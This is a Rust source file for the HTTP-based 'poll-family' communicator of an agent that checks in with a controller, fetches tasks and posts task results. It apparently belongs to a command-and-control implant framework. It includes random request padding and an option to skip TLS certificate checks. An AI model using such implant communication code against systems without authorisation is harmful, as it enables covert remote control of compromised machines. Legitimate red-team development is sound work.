//! Poll-family Communicator: plaintext HTTP/1.1, TLS HTTP/1.1, TLS
//! HTTP/2 and HTTP/3-over-QUIC, all on one reqwest client per instance.
//! A check-in is a single request/response cycle; the controller never
//! pushes, the agent polls.

use crate::config::{ChannelConfig, CheckInVerb, Transport};
use crate::protocol::{CheckInBody, TaskResult};
use crate::transport::{padding_blob, Communicator, AGENT_ID_HEADER, USER_AGENT};
use async_trait::async_trait;
use parking_lot::RwLock;
use reqwest::header::{HeaderMap, HeaderValue, CONTENT_TYPE};
use tracing::debug;
use uuid::Uuid;

pub struct HttpCommunicator {
    config: ChannelConfig,
    identity: Uuid,
    /// Swapped wholesale on disconnect so pooled connections drop with
    /// the old client.
    client: RwLock<reqwest::Client>,
}

impl HttpCommunicator {
    pub fn new(config: ChannelConfig, identity: Uuid) -> crate::Result<Self> {
        let client = build_client(&config, identity)?;
        Ok(Self {
            config,
            identity,
            client: RwLock::new(client),
        })
    }

    fn client(&self) -> reqwest::Client {
        self.client.read().clone()
    }
}

fn build_client(config: &ChannelConfig, identity: Uuid) -> crate::Result<reqwest::Client> {
    let mut headers = HeaderMap::new();
    let id_value = HeaderValue::from_str(&identity.to_string())
        .map_err(|e| crate::AgentError::Config(format!("invalid agent id header: {e}")))?;
    headers.insert(AGENT_ID_HEADER, id_value);

    let mut builder = reqwest::Client::builder()
        .user_agent(USER_AGENT)
        .default_headers(headers);

    if config.transport.uses_tls() && !config.verify_tls {
        builder = builder.danger_accept_invalid_certs(true);
    }

    builder = match config.transport {
        Transport::Http2 => builder.http2_prior_knowledge(),
        Transport::Http3 => builder.http3_prior_knowledge(),
        _ => builder,
    };

    Ok(builder.build()?)
}

#[async_trait]
impl Communicator for HttpCommunicator {
    fn transport(&self) -> Transport {
        self.config.transport
    }

    async fn connect(&self) -> crate::Result<()> {
        // Stateless: connections are established per request.
        Ok(())
    }

    async fn disconnect(&self) -> crate::Result<()> {
        let fresh = build_client(&self.config, self.identity)?;
        *self.client.write() = fresh;
        debug!(transport = %self.config.transport, "idle connections released");
        Ok(())
    }

    async fn check_in(&self) -> crate::Result<String> {
        let url = self.config.checkin_url();
        let client = self.client();

        let request = match self.config.checkin_verb {
            CheckInVerb::Get => client.get(&url),
            CheckInVerb::Post => {
                let mut request = client.post(&url);
                if self.config.padding {
                    let blob = padding_blob(self.config.padding_min, self.config.padding_max);
                    if !blob.is_empty() {
                        request = request
                            .header(CONTENT_TYPE, "application/json")
                            .body(serde_json::to_string(&CheckInBody { padding: blob })?);
                    }
                }
                request
            }
        };

        let response = request.send().await?.error_for_status()?;
        Ok(response.text().await?)
    }

    async fn send_result(&self, result: &TaskResult) -> crate::Result<()> {
        self.client()
            .post(self.config.results_url())
            .json(result)
            .send()
            .await?
            .error_for_status()?;
        Ok(())
    }
}
